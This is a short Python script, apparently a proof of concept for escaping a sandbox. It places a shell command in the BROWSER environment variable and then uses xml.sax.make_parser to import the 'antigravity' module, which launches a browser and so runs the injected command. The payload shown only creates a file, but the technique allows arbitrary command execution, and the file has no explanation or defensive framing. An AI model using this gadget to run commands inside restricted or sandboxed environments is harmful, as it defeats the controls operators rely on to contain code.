import os, xml.sax
os.environ["BROWSER"] = "touch pf #%s"
try:
    xml.sax.make_parser(["antigravity"])
except Exception:
    pass
